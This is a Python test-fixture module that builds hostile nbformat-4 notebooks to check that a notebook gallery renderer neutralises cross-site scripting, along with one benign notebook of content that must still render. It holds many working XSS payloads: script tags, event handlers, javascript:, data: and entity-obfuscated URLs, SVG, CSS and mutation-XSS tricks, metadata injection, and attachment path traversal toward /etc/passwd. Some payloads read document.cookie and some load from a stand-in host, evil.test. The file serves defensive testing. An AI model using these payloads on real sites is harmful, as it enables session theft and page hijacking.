"""A corpus of hostile (and one benign) nbformat-4 notebooks for the gallery renderer.

``hostile_notebooks()`` returns ``{name: notebook_dict}``; every notebook is nbformat-valid
(so it can be published) and every payload in it, if it ever ran, would execute
:data:`PAYLOAD_JS`::

    window.__pwned = 1; document.title = 'PWNED'; window.__cookie = document.cookie

So a browser-level test can load a rendered page and assert ``window.__pwned`` is
undefined and the title is not ``PWNED`` (the cookie read comes last: in an opaque-origin
sandbox it throws, in an unsandboxed page it would leak). Each notebook also carries a
benign Markdown cell containing :func:`marker` ``(name)`` that must survive rendering.

``benign_notebook()`` exercises what must still render: headings, emphasis, tables, lists,
links, inline code, LaTeX, code with a ``text/plain`` result, a PNG output, an SVG output,
an HTML table output, and a Markdown attachment image.
"""

from __future__ import annotations

import base64
import json
import struct
import zlib

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

PAYLOAD_JS = "window.__pwned=1;document.title='PWNED';window.__cookie=document.cookie"
P = PAYLOAD_JS
SCRIPT = f"<script>{P}</script>"


def marker(name: str) -> str:
    """Benign text that must appear in the rendered page of notebook ``name``."""
    return f"benign content of {name} survives"


def png_bytes(width: int = 2, height: int = 2, rgb: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    """A real, minimal PNG (solid colour), built without any imaging library."""
    raw = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


PNG_B64 = base64.b64encode(png_bytes()).decode()
B64_SCRIPT_HTML = base64.b64encode(f"<html><body>{SCRIPT}</body></html>".encode()).decode()
EVIL_SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{P}" width="10" height="10">'
            f'<script>{P}</script><a href="javascript:{P}"><rect width="10" height="10"/></a>'
            f'<foreignObject><iframe srcdoc="{SCRIPT.replace(chr(34), "&quot;")}"></iframe></foreignObject></svg>')


def _nb(name: str, cells: list, metadata: dict | None = None) -> dict:
    nb = new_notebook(metadata=metadata or {})
    nb.cells = [new_markdown_cell(f"# Hostile: {name}\n\n{marker(name)}"), *cells]
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"cell-{i}"
    return json.loads(json.dumps(nb))


def _html_out(html: str, **extra) -> dict:
    return new_output("display_data", data={"text/html": html, "text/plain": "<html output>", **extra})


def _code(outputs: list, source: str = "show()") -> dict:
    return new_code_cell(source, outputs=outputs, execution_count=1)


def _build() -> dict[str, dict]:
    c: dict[str, dict] = {}
    c["markdown_script"] = _nb("markdown_script", [
        new_markdown_cell(f"Intro {SCRIPT} outro\n\n<script type=\"module\">{P}</script>\n\n<SCRIPT SRC=//evil.test/x.js></SCRIPT>"),
    ])
    c["markdown_img_onerror"] = _nb("markdown_img_onerror", [
        new_markdown_cell(f'<img src=x onerror="{P}">\n\n<img src="x" onerror={P.replace(";", "//")} />\n\n'
                          f'<body onload="{P}"><div onmouseover="{P}">hover</div><details open ontoggle="{P}">d</details>'),
    ])
    c["markdown_svg_onload"] = _nb("markdown_svg_onload", [
        new_markdown_cell(f'<svg onload="{P}"><script>{P}</script></svg>\n\n{EVIL_SVG}\n\n'
                          f'<svg><animate onbegin="{P}" attributeName="x" dur="1s"/></svg>'),
    ])
    c["html_output_script"] = _nb("html_output_script", [
        _code([_html_out(f'<div>table</div>{SCRIPT}<p onclick="{P}">click</p><img src=x onerror="{P}">'
                         f'<body onload="{P}"></body>')]),
    ])
    c["svg_output_script"] = _nb("svg_output_script", [
        _code([new_output("display_data", data={"image/svg+xml": EVIL_SVG, "text/plain": "<svg>"})]),
    ])
    c["javascript_output"] = _nb("javascript_output", [
        _code([new_output("display_data", data={"application/javascript": P, "text/plain": "<js>"}),
               new_output("execute_result", data={"application/javascript": P}, execution_count=1),
               new_output("display_data", data={"text/javascript": P, "application/x-javascript": P})]),
    ])
    c["title_metadata_script"] = _nb("title_metadata_script", [], {
        "title": f"</title>{SCRIPT}<title>",
    })
    # the heading is the title source: make it hostile too
    c["title_metadata_script"]["cells"][0]["source"] = (
        f"# Title </title>{SCRIPT} <img src=x onerror=\"{P}\">\n\n{marker('title_metadata_script')}")
    widget_model = {"model_id": f"</script>{SCRIPT}", "version_major": 2, "version_minor": 0}
    c["widget_state_script"] = _nb("widget_state_script", [
        _code([new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": widget_model, "text/plain": "IntSlider()"})]),
    ], {"widgets": {"application/vnd.jupyter.widget-state+json": {
        "state": {"m1": {"model_name": f"</script>{SCRIPT}", "model_module": f"</script>{SCRIPT}",
                         "model_module_version": "1", "state": {"value": f"</script>{SCRIPT}"}}},
        "version_major": 2, "version_minor": 0}}})
    c["javascript_links"] = _nb("javascript_links", [
        new_markdown_cell(f"[click me](javascript:{P})\n\n<a href=\"javascript:{P}\">html link</a>\n\n"
                          f"[ref link][evil]\n\n[evil]: javascript:{P.replace(' ', '')}\n\n"
                          f"<javascript:{P}>\n\n[spaced](  javascript:{P})\n\n"
                          f"<a href=\"vbscript:msgbox(1)\">vb</a> <a href=\"JaVaScRiPt:{P}\">mixed case</a>"),
    ])
    c["image_size_injection"] = _nb("image_size_injection", [
        _code([new_output("display_data", data={"image/png": PNG_B64, "text/plain": "<Figure>"},
                          metadata={"image/png": {"width": f'1" onload="{P}', "height": f"1 onload={P}"},
                                    "width": f"1 onload={P}"}),
               new_output("display_data", data={"image/jpeg": PNG_B64},
                          metadata={"width": f"1 onerror={P}", "height": f'1" onerror="{P}',
                                    "needs_background": f'"><script>{P}</script>'})]),
    ])
    c["pygments_lexer_injection"] = _nb("pygments_lexer_injection", [
        _code([], source="x = 1\nprint(x)"),
    ], {"language_info": {"name": f'python"><script>{P}</script>',
                          "pygments_lexer": f'ipython3"><script>{P}</script><p class="'}})
    c["kernelspec_injection"] = _nb("kernelspec_injection", [_code([], source="1")], {
        "kernelspec": {"name": f"x\"><script>{P}</script>", "display_name": SCRIPT,
                       "language": f"python\"><img src=x onerror=\"{P}\">"}})
    c["attachment_traversal"] = _nb("attachment_traversal", [
        {**new_markdown_cell("![a](attachment:../../../../etc/passwd) ![b](attachment:/etc/shadow) "
                             "![c](attachment:..\\..\\win.ini) ![d](attachment:x.html) ![e](attachment:ok.png)"),
         "attachments": {"../../../../etc/passwd": {"image/png": PNG_B64},
                         "/etc/shadow": {"image/png": PNG_B64},
                         "..\\..\\win.ini": {"image/png": PNG_B64},
                         "x.html": {"text/html": B64_SCRIPT_HTML},
                         "ok.png": {"image/svg+xml": base64.b64encode(EVIL_SVG.encode()).decode()}}},
    ])
    c["embedding_tags"] = _nb("embedding_tags", [
        new_markdown_cell(f'<iframe src="javascript:{P}"></iframe>\n\n<iframe srcdoc="<script>{P}</script>"></iframe>\n\n'
                          f'<object data="data:text/html;base64,{B64_SCRIPT_HTML}"></object>\n\n'
                          f'<embed src="data:text/html;base64,{B64_SCRIPT_HTML}">\n\n'
                          f'<meta http-equiv="refresh" content="0;url=javascript:{P}">\n\n'
                          f'<base href="javascript:{P}//">\n\n<link rel="stylesheet" href="//evil.test/x.css">\n\n'
                          f'<form action="javascript:{P}"><button formaction="javascript:{P}">go</button></form>'),
        _code([_html_out(f'<iframe srcdoc="&lt;script&gt;{P}&lt;/script&gt;"></iframe><frameset onload="{P}">'
                         f'<applet code="x"></applet><portal src="javascript:{P}"></portal>'
                         f'<video><source onerror="{P}"></video><audio src=x onerror="{P}"></audio>')]),
    ])
    c["css_injection"] = _nb("css_injection", [
        new_markdown_cell(f'<div style="background:url(javascript:{P})">bg</div>\n\n'
                          f'<div style="width: expression({P})">expr</div>\n\n'
                          f'<style>@import "javascript:{P}"; body {{ background: url("javascript:{P}") }}</style>\n\n'
                          f'<p style="-moz-binding:url(//evil.test/x.xml#x); behavior: url(x.htc)">moz</p>\n\n'
                          f'<p style="color: red; background-image: url(\'https://evil.test/track.png\')">track</p>'),
        _code([_html_out(f'<style>* {{ background: url(javascript:{P}) }}</style>'
                         f'<span style="font-family: \'x\'; color: \\65 xpression({P})">esc</span>')]),
    ])
    c["data_url_html"] = _nb("data_url_html", [
        new_markdown_cell(f'<a href="data:text/html;base64,{B64_SCRIPT_HTML}">data link</a>\n\n'
                          f'[md data](data:text/html,{SCRIPT.replace(" ", "%20")})\n\n'
                          f'<img src="data:text/html;base64,{B64_SCRIPT_HTML}">\n\n'
                          f'![svg data](data:image/svg+xml,{EVIL_SVG.replace(" ", "%20")})'),
        _code([_html_out(f'<a href="data:text/html,{SCRIPT}">x</a><iframe src="data:text/html,{SCRIPT}"></iframe>')]),
    ])
    tagged = _code([_html_out("<b>tagged</b>")])
    tagged["metadata"] = {"tags": [f'x"><script>{P}</script>', f"y onmouseover={P}", "ok-tag"],
                          "magics_language": f'python"><script>{P}</script>'}
    c["cell_tags_injection"] = _nb("cell_tags_injection", [tagged])
    c["raw_cell_html"] = _nb("raw_cell_html", [
        new_raw_cell(f"<b>raw</b>{SCRIPT}<img src=x onerror=\"{P}\">", metadata={"raw_mimetype": "text/html"}),
        new_raw_cell(f"{SCRIPT}", metadata={"format": "text/html"}),
    ])
    c["mermaid_injection"] = _nb("mermaid_injection", [
        _code([new_output("display_data", data={"text/vnd.mermaid": f"graph TD;</pre>{SCRIPT}<pre>"})]),
        new_markdown_cell(f"```mermaid\ngraph TD;\n</pre>{SCRIPT}<img src=x onerror=\"{P}\">\n```"),
    ])
    c["markdown_output_script"] = _nb("markdown_output_script", [
        _code([new_output("display_data", data={"text/markdown": f"**md** {SCRIPT} <img src=x onerror=\"{P}\"> "
                                                                 f"[x](javascript:{P})"})]),
    ])
    c["stream_and_error_html"] = _nb("stream_and_error_html", [
        _code([new_output("stream", name="stdout", text=f"{SCRIPT}\n\x1b[31m<img src=x onerror=\"{P}\">\x1b[0m\n"),
               new_output("stream", name="stderr", text=f"</pre>{SCRIPT}"),
               new_output("error", ename=SCRIPT, evalue=f"<img src=x onerror=\"{P}\">",
                          traceback=[f"\x1b[0;31m{SCRIPT}\x1b[0m", f"</pre><img src=x onerror=\"{P}\">"])]),
    ])
    c["mutation_xss"] = _nb("mutation_xss", [
        new_markdown_cell(f'<noscript><p title="</noscript><img src=x onerror=\'{P}\'>"></noscript>\n\n'
                          f'<math><mtext><table><mglyph><style><img src=x onerror="{P}"></style></mglyph></table></mtext></math>\n\n'
                          f'<svg><style><img src=x onerror="{P}"></style></svg>\n\n'
                          f'<template><script>{P}</script></template>\n\n'
                          f'<textarea></textarea><script>{P}</script>\n\n'
                          f'<!--><img src=x onerror="{P}">-->\n\n<xmp><img src=x onerror="{P}"></xmp>\n\n'
                          f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
                          f'<img onerror={P.replace(";", "//")} src>">'),
        _code([_html_out(f'<select><template><style><img src=x onerror="{P}"></style></template></select>'
                         f'<table><td><a href="x"><img src=x onerror="{P}"></a></td></table>')]),
    ])
    c["latex_injection"] = _nb("latex_injection", [
        _code([new_output("display_data", data={"text/latex": f"$\\href{{javascript:{P}}}{{x}}$ </div>{SCRIPT}"})]),
        new_markdown_cell(f"$<img src=x onerror=\"{P}\">$ and $$</p>{SCRIPT}$$ and "
                          f"\\begin{{align}}{SCRIPT}\\end{{align}}"),
    ])
    c["entity_obfuscated_urls"] = _nb("entity_obfuscated_urls", [
        new_markdown_cell(f'<a href="&#106;avascript:{P}">ent</a> <a href="&#x6A;&#x61;vascript&colon;{P}">hex</a> '
                          f'<a href="java&#x09;script:{P}">tab</a> <a href="java\nscript:{P}">nl</a> '
                          f'<a href=" &#14; javascript:{P}">ctl</a> <img src="jav&#x0A;ascript:{P}"> '
                          f'<a href="javascript&#58;{P}">colon</a> <a href="\u200bjavascript:{P}">zw</a>'),
    ])
    c["output_filenames_metadata"] = _nb("output_filenames_metadata", [
        _code([new_output("display_data", data={"image/png": PNG_B64, "image/svg+xml": "<svg/>"},
                          metadata={"filenames": {"image/png": f"javascript:{P}",
                                                  "image/svg+xml": f'"><script>{P}</script>'}})]),
    ])
    c["code_source_breakout"] = _nb("code_source_breakout", [
        _code([], source=f"%%html\n</code></pre></div>{SCRIPT}\n# </script><script>{P}</script>"),
        _code([], source=f"s = '</script><script>{P}</script>'  # <!-- --> ]]>"),
    ])
    c["image_data_injection"] = _nb("image_data_injection", [
        _code([new_output("display_data", data={"image/png": f'x" onerror="{P}', "text/plain": "fig"}),
               new_output("display_data", data={"image/jpeg": f"x onerror={P}"})]),
    ])
    return c


def hostile_notebooks() -> dict[str, dict]:
    """``{name: nbformat-4 dict}``; a fresh deep copy on every call."""
    return {name: json.loads(json.dumps(nb)) for name, nb in _build().items()}


BENIGN_TEXTS = (
    "Quarterly report", "emphasised words", "second row", "list item two", "inline_code()",
    "The answer is 42", "https://jupyter.org/", "Table caption cell",
)


def benign_notebook() -> dict:
    """Content every report must still show: see :data:`BENIGN_TEXTS` and the images in it."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><circle cx="10" cy="10" r="8" fill="teal"/></svg>'
    nb = new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
                                "language_info": {"name": "python", "pygments_lexer": "ipython3"}})
    nb.cells = [
        new_markdown_cell("# Quarterly report\n\nSome *emphasised words* and **bold** text, `inline_code()`,\n"
                          "a [link](https://jupyter.org/) and math $e^{i\\pi} + 1 = 0$.\n\n"
                          "| col | value |\n|-----|-------|\n| first row | 1 |\n| second row | 2 |\n\n"
                          "- list item one\n- list item two\n\n## Section two\n\n![logo](attachment:logo.png)"),
        new_code_cell("answer = 6 * 7\nprint('The answer is', answer)", execution_count=1, outputs=[
            new_output("stream", name="stdout", text="The answer is 42\n"),
        ]),
        new_code_cell("answer", execution_count=2, outputs=[
            new_output("execute_result", data={"text/plain": "42"}, execution_count=2),
        ]),
        new_code_cell("plot()", execution_count=3, outputs=[
            new_output("display_data", data={"image/png": PNG_B64, "text/plain": "<Figure size 2x2>"},
                       metadata={"image/png": {"width": 200, "height": 200}}),
            new_output("display_data", data={"image/svg+xml": svg, "text/plain": "<circle>"}),
        ]),
        new_code_cell("df", execution_count=4, outputs=[
            new_output("execute_result", execution_count=4, data={
                "text/html": ("<style scoped>.dataframe td { color: black; }</style>"
                              "<table class=\"dataframe\"><thead><tr><th>Table caption cell</th></tr></thead>"
                              "<tbody><tr><td style=\"text-align: right\">3.14</td></tr></tbody></table>"),
                "text/plain": "df"}),
        ]),
        new_code_cell("from IPython.display import Latex\nLatex(r'$\\alpha^2$')", execution_count=5, outputs=[
            new_output("display_data", data={"text/latex": "$\\alpha^2$", "text/plain": "<Latex>"}),
        ]),
    ]
    nb.cells[0]["attachments"] = {"logo.png": {"image/png": PNG_B64}}
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"benign-{i}"
    nbformat.validate(nb)
    return json.loads(json.dumps(nb))
